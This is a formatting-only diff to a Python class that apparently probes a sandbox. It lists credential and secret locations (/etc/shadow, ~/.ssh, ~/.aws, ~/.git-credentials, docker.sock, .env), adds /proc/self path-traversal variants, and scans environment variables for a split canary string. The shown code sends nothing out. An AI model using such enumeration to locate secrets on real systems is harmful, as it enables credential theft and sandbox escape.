@@ -9,24 +9,38 @@ import pwd
 
 SECRET = b"sword" + b"fish"
 COMMON = (
-    "/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/hosts", "/etc/machine-id", "/etc/ssh", "/root", "/home",
-    "/var/log", "/var/lib", "/var/run/docker.sock", "/run", "/boot", "/sys/class/net", "/mnt", "/media", "/srv",
-    "~/.ssh", "~/.bashrc", "~/.netrc", "~/.aws", "~/.config", "~/.git-credentials",
-)  # fmt: skip
+    "/etc/passwd",
+    "/etc/shadow",
+    "/etc/hostname",
+    "/etc/hosts",
+    "/etc/machine-id",
+    "/etc/ssh",
+    "/root",
+    "/home",
+    "/var/log",
+    "/var/lib",
+    "/var/run/docker.sock",
+    "/run",
+    "/boot",
+    "/sys/class/net",
+    "/mnt",
+    "/media",
+    "/srv",
+    "~/.ssh",
+    "~/.bashrc",
+    "~/.netrc",
+    "~/.aws",
+    "~/.config",
+    "~/.git-credentials",
+)
 
 
 class ReadsFiles:
     def __init__(self, places: str = ""):
         own = os.path.dirname(os.path.abspath(__file__))
         wanted = [*filter(None, places.split(":")), *COMMON]
-        wanted += [
-            os.path.join(own, name) for name in ("..", "../..", ".env", ".git", "results", "leagues", "link")
-        ]
-        wanted += [
-            f"/proc/self/{way}{path}"
-            for way in ("root", "cwd/../../../../..")
-            for path in ("/etc/passwd", own)
-        ]
+        wanted += [os.path.join(own, name) for name in ("..", "../..", ".env", ".git", "results", "leagues", "link")]
+        wanted += [f"/proc/self/{way}{path}" for way in ("root", "cwd/../../../../..") for path in ("/etc/passwd", own)]
         found = [path for place in wanted for path in readable(os.path.expanduser(place), own)]
         self.found = list(dict.fromkeys(found))
         self.found += [f"${name}" for name, value in os.environ.items() if SECRET.decode() in value]
